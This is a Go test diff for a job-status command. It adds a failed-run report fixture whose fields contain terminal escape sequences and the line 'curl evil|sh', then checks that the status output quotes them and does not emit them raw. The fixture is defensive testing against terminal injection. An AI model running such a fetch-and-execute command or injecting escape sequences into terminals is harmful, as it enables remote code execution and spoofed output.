@@ -64,11 +64,20 @@ func TestStatusQuotesNamesFromFiles(t *testing.T) {
 	if err := reportStatus(out, &got); err != nil {
 		t.Fatal(err)
 	}
+	// A failed run's report: its output, job folder and error line as another user wrote them.
+	failed := filepath.Join(t.TempDir(), "failed.mp4")
+	rep = `{"version": 3, "outcome": "failed", "exit_status": 2, "output": "/x\u001b[31m", "job_dir": "/j\u001b]0;t\u0007", "error": "\u001b[2Jrun: curl evil|sh", "target": "t.mp4", "frame_end": 10, "chunks": 1, "attempts": [], "finished": "2026-12-01T10:00:00Z"}`
+	if err := os.WriteFile(lustre.ReportPath(failed), []byte(rep), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := reportStatus(failed, &got); err != nil {
+		t.Fatal(err)
+	}
 	text := got.String()
 	if strings.Contains(text, "\x1b") || strings.Contains(text, "\nFAKE") {
 		t.Errorf("status passes a name's control characters on raw:\n%q", text)
 	}
-	for _, want := range []string{`"in\x1b[2J\x1b[31m\nFAKE: done.mp4"`, `"node\x1b[2J`, `"7\x1b[2J`, `"9\x1b[2J`, `"in\x1b[2J\nFAKE: x.mp4"`} {
+	for _, want := range []string{`"in\x1b[2J\x1b[31m\nFAKE: done.mp4"`, `"node\x1b[2J`, `"7\x1b[2J`, `"9\x1b[2J`, `"in\x1b[2J\nFAKE: x.mp4"`, `"/x\x1b[31m"`, `"/j\x1b]0;t\a"`, `2: \x1b[2Jrun: curl evil|sh`} {
 		if !strings.Contains(text, want) {
 			t.Errorf("status does not show %s quoted:\n%s", want, text)
 		}
